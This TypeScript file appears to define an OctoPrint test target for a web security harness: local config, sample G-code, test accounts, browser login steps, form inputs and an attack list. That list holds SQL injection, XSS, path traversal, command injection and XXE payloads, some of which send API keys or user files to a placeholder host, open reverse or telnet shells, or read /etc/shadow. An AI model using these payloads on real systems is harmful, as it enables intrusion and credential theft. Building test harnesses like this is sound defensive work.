import type { Application } from "../application.ts";

const settings = `
accessControl:
  salt: nozzle-wipe-and-purge-line-at-60
  defaultReauthenticationTimeout: 0
appearance:
  name: Shed printer
server:
  firstRun: false
  onlineCheck:
    enabled: false
  pluginBlacklist:
    enabled: false
  seenWizards:
    corewizard: 4
    classicwebcam: 1
plugins:
  _disabled: [softwareupdate, announcements, tracking, errortracking, pluginmanager, discovery, health_check, achievements, eventmanager, file_check, firmware_check]
  virtual_printer:
    enabled: true
serial:
  autoconnect: true
  port: VIRTUAL
webcam:
  webcamEnabled: false
`;

const model = (name: string, layers: number) =>
  [
    `; ${name}`,
    "M140 S60",
    "M104 S205",
    "G28",
    ...Array.from(
      { length: layers },
      (_, i) => `G1 Z${(i * 0.2).toFixed(2)} F600\nG1 X${20 + i} Y40 E${i}\nG1 X60 Y${60 + i} E${i + 0.6}`,
    ),
    "M104 S0",
    "M84",
    "",
  ].join("\n");

/**
 * Sections of the settings whose texts start no program. Not the temperatures, all of which every later visit sends again, whatever
 * stands in them; nor the filters of the terminal: one that is no expression keeps the page from loading.
 */
const sections = ["appearance", "gcodeScripts"];

/** Controls a printer of things; its visitors send it G-code, sort and search their files, and set temperatures, profiles and scripts. */
export const octoprint: Application = {
  name: "octoprint",
  packages: { pip: ["OctoPrint==1.11.8"] },
  files: () => ({
    "config.yaml": settings,
    "uploads/bracket_v2.gcode": model("bracket", 30),
    "uploads/vase (spiral).gcode": model("vase", 60),
    "uploads/gears/planet.gcode": model("planet gear", 20),
    "uploads/gears/sun.gcode": model("sun gear", 20),
    "uploads/calibration/temp_tower.gcode": model("tower", 40),
  }),
  prepare: () => [
    ["octoprint", "--basedir", ".", "user", "add", "keeper", "--password", "brass-nozzle-04", "--admin"],
    ["octoprint", "--basedir", ".", "user", "add", "guest", "--password", "pla-only"],
  ],
  start: ({ port }) => [
    "octoprint",
    "--basedir",
    ".",
    "serve",
    "--iknowwhatimdoing",
    "--host",
    "127.0.0.1",
    "--port",
    String(port),
  ],
  ready: "/login/",
  async enter(page, origin) {
    await page.goto(`${origin}/login/`);
    await page.fill("#login-user", "keeper");
    await page.fill("#login-password", "brass-nozzle-04");
    await page.click("#login-button");
    await page.waitForSelector("#tabs:visible", { timeout: 30_000 });
    await page.waitForSelector("#page-container-loading", { state: "hidden", timeout: 30_000 });
  },
  // One page holds everything, and shows a part of it at a time.
  async reach(page, random) {
    if ((await page.locator(".modal:visible").count()) > 0) return null;
    const way = random.below(5);
    if (way < 2) await page.click("a[href='#term']");
    if (way === 2) await page.click("[data-bind*='showAddFolderDialog']:visible");
    if (way > 2) {
      await page.click("#navbar_show_settings");
      await page.click(`#settingsTabs a[href='#settings_${random.pick(sections)}']`);
    }
    await page.waitForTimeout(500);
    return null;
  },
  async submit(page) {
    const save = page.locator(".modal:visible .modal-footer .btn-primary:visible");
    if ((await save.count()) > 0) await save.last().click({ timeout: 2_000 });
    else if ((await page.locator("#terminal-command:focus").count()) > 0) await page.keyboard.press("Enter");
    else return false;
    return true;
  },
  pages: [
    "/?l10n=en#temp",
    "/?l10n=en#term",
    "/?l10n=en#control",
    "/?l10n=en#timelapse",
    "/?l10n=en#tab_plugin_gcodeviewer",
  ],
  avoid:
    /shut|reboot|safe mode|safemode|recovery|disconnect|cancel|delete|remove|password|api ?key|log in|logout|upload|choose|reset|purge|octoprint\.org|clear/i,
  texts: {
    searches: [
      "bracket",
      "vase (spiral)",
      "planet",
      "temp_tower",
      "gears/",
      "0.2mm",
      "PETG",
      "benchy*",
      "bracket v2 -old",
      "don't print",
      "Halterung",
      "M117",
      "Error:",
      "ok T:20",
      "^Send: G1",
      "Recv: (ok|wait)",
      "T:\\d+\\.\\d+ /0",
      "echo:busy",
      "100%",
      "sun & planet",
      "Öse",
      "крышка",
      "歯車",
      "serial.log",
      "E3D 'clone'",
      "=> 215",
    ],
    lines: [
      "G28 X Y",
      "M117 Pierre's vase: 40%",
      "M104 S215 ; nozzle",
      "M140 S60",
      "G1 X20.5 Y-3 F1500",
      "M106 S127",
      "M503",
      "M92 E93.4",
      "G92 E0 ; zero, don't move",
      "M220 S110",
      "M155 S2",
      "@pause",
      "PETG, 0.4 nozzle (brass)",
      "Shed printer #2",
      "gears (old)",
      "Kid's toys",
      "Ersatzteile & Halter",
      "pièces d'essai",
      "детали",
      "試し刷り",
      "220x220x250",
      "/dev/ttyUSB*",
      "/dev/serial/by-id/usb-1a86_USB2.0-Serial-if00",
      "AUTO",
      "sudo systemctl stop klipper",
      'ffmpeg -framerate {fps} -i "{input}" -vcodec libx264 "{output}"',
      "http://192.168.4.21:8080/?action=snapshot&rot=90",
      "workshop; ground floor",
      "200 °C ± 5",
      'bracket_v3 "final"',
    ],
    long: [
      "; before a print\nG28\nG29 ; mesh, takes 2 min\nG1 Z5 F3000\nM117 Here we go!",
      "M104 T0 S0\nM140 S0\nM106 S0\nG91\nG1 Z10 F600\nG90\nM84 ; motors off, don't drop the bed",
      "{% if last_position.x is not none %}\nG1 X{{ last_position.x }} Y{{ last_position.y }} F4500\n{% endif %}",
      "{% snippet 'disable_hotends' %}\n{% snippet 'disable_bed' %}\n;disable fan\nM106 S0",
      'M862.3 P "MK3S" ; model check\nM115 U3.13.3 ; it\'s newer than that\nG21',
      "Nozzle swapped (brass -> hardened, 0.6). First layer at 85%; retraction 0.8 mm, it strings above 235 °C.",
      "Left Z motor skips when it's cold (< 12 °C). Oiled; if that doesn't help, select the second driver & swap them.",
      'Recv: echo:Unknown command: "M900 K0.05"\nRecv: ok P15 B3\nSend: N42 M105*19',
      "^(Send: (N\\d+\\s+)?M105)|(Recv:\\s+(ok\\s+([PBN]\\d+\\s+)*)?([BCLPR]|T\\d*):-?\\d+)",
      "steps: 80, 80, 400, 93.4\ncurrent: {x: 580, y: 580, z: 650, e: 650}\n# measured with the caliper, 3 times",
      "e = 93.4 * (100 / 97.5)  # = 95.8; M92 E95.8 && M500",
      'Druckplatte mit Spülmittel (kein Aceton!) reinigen; "Elefantenfuß" ≈ 0,15 mm ausgleichen.',
      "L'extrudeur claque à 60 mm/s ; baisser à 45. Voir https://example.org/forum?topic=881&page=2#p17",
      "Стол 60 °C, сопло 205 °C, обдув со второго слоя — 100 %.",
      "ノズル詰まり。コールドプルで解決。🖨️",
      "rsync -av ~/.octoprint/uploads/ shed@192.168.4.20:/srv/gcode/ && echo done\n# Sundays, by hand",
      "M106 S255\nG4 P500\nM107\nG1 E-2 F1800 ; < this is the retraction that isn't in the slicer",
    ],
  },
  attacks: [
    { class: "sql_injection", payload: "bracket' OR (SELECT COUNT(*) FROM information_schema.tables)>0 AND 'g'='g" },
    { class: "sql_injection", payload: "gears') ORDER BY 9-- qz" },
    {
      class: "sql_injection",
      payload:
        "M105' AND UPDATEXML(1,CONCAT(0x7e,(SELECT GROUP_CONCAT(user,0x3a,authentication_string) FROM mysql.user),0x7e),1)-- -",
    },
    { class: "sql_injection", payload: "1));SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(79)||CHR(75),7) FROM DUAL--" },
    { class: "sql_injection", payload: 'vase" UNION SELECT null,apikey,password,null FROM users LIMIT 1 OFFSET 0-- ' },
    {
      class: "sql_injection",
      payload:
        "0' RLIKE (SELECT (CASE WHEN (ORD(MID((SELECT CURRENT_USER()),1,1))>64) THEN 0x31 ELSE 0x28 END)) AND 'o'='o",
    },
    { class: "xss", payload: "M117 <img/src/onerror=fetch('http://192.0.2.181/k?'+OctoPrint.options.apikey)>" },
    { class: "xss", payload: "gears<script>$.post('/api/users',{name:'x',password:'x',admin:true})</script>" },
    { class: "xss", payload: "{{constructor.constructor('alert(document.domain)')()}}<svg onload=alert(1)>" },
    { class: "xss", payload: "\"><input type=image src=x: onerror=\"self['doc'+'ument'].location='//192.0.2.181'\">" },
    {
      class: "xss",
      payload: "<form id=f action=javascript:alert(window.origin)><button form=f>Preheat</button></form>",
    },
    { class: "path_traversal", payload: "../../../../home/pi/.octoprint/users.yaml" },
    { class: "path_traversal", payload: "uploads/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd" },
    { class: "path_traversal", payload: "..././..././..././..././boot/octopi-wpa-supplicant.txt" },
    { class: "path_traversal", payload: "/downloads/files/local/..\\/..\\/..\\/config.yaml" },
    { class: "command_injection", payload: "/dev/ttyUSB0;busybox telnetd -l /bin/sh -p 2323 &" },
    {
      class: "command_injection",
      payload:
        'ffmpeg -i x; python3 -c \'import pty,socket;s=socket.create_connection(("192.0.2.181",443));pty.spawn("sh")\'',
    },
    {
      class: "command_injection",
      payload: "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('cat /etc/issue') }}",
    },
    { class: "command_injection", payload: "G28%0als%20-la%20%2froot%0a||cat$IFS$9/etc/shadow" },
    {
      class: "xxe",
      payload:
        '<?xml version="1.0"?><!DOCTYPE amf [<!ENTITY % f SYSTEM "file:///home/pi/.octoprint/users.yaml"><!ENTITY % e "<!ENTITY l SYSTEM \'http://192.0.2.181/?%f;\'>">%e;]><amf>&l;</amf>',
    },
  ],
};
